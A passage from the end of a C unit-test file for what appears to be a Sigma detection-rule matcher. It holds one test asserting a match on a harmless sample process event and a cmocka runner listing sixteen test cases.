	mk(&ev, EVENT_PROCESS_EXEC, EF_IMAGE, "/opt/tool17", EF_COMMAND_LINE, "tool17 safe", -1);
	assert_int_equal(sigma_match(rs, &ev, sc, NULL, NULL), 1);
	sigma_scratch_free(sc);
	host_event_free(&ev);
	sigma_ruleset_free(rs);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_basic),
		cmocka_unit_test(test_lists),
		cmocka_unit_test(test_wildcards),
		cmocka_unit_test(test_conditions),
		cmocka_unit_test(test_null_exists),
		cmocka_unit_test(test_regex),
		cmocka_unit_test(test_cidr_num),
		cmocka_unit_test(test_base64_windash_fieldref),
		cmocka_unit_test(test_keywords_services),
		cmocka_unit_test(test_auditd_file),
		cmocka_unit_test(test_metadata),
		cmocka_unit_test(test_errors),
		cmocka_unit_test(test_bad_among_good),
		cmocka_unit_test(test_correlation),
		cmocka_unit_test(test_correlation_of_correlation),
		cmocka_unit_test(test_prefilter_many),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
